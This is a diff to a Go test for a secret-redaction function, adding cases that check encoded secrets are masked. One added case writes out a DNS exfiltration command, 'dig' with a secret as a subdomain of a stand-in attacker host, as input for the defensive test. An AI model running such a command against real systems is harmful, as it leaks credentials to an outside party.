@@ -18,7 +18,8 @@ const (
 )
 
 func TestKnownValues(t *testing.T) {
-	r := New(plainSecret, oddSecret)
+	const slashSecret, mixedSecret = "sk/live/Abc123xyz", "Tok3nMixedCaseValue"
+	r := New(plainSecret, oddSecret, slashSecret, mixedSecret)
 	const m = "[REDACTED:known-secret]"
 	b64 := func(e *base64.Encoding, s string) string { return e.EncodeToString([]byte(s)) }
 	tests := []struct {
@@ -38,6 +39,8 @@ func TestKnownValues(t *testing.T) {
 		{"hex", "0x" + hex.EncodeToString([]byte(plainSecret)), "0x" + m},
 		{"hex upper", strings.ToUpper(hex.EncodeToString([]byte(oddSecret))), m},
 		{"json escaped", `{"msg":"` + strings.NewReplacer(`"`, `\"`, `\`, `\\`).Replace(oddSecret) + `"}`, `{"msg":"` + m + `"}`},
+		{"lower-cased (a DNS label)", "dig " + strings.ToLower(mixedSecret) + ".attacker.example.test", "dig " + m + ".attacker.example.test"},
+		{"json with escaped slashes", `{"k":"` + strings.ReplaceAll(slashSecret, "/", `\/`) + `"}`, `{"k":"` + m + `"}`},
 		{"no match", "hunter2-sekri", "hunter2-sekri"},
 	}
 	if b64(base64.StdEncoding, oddSecret) == b64(base64.URLEncoding, oddSecret) {
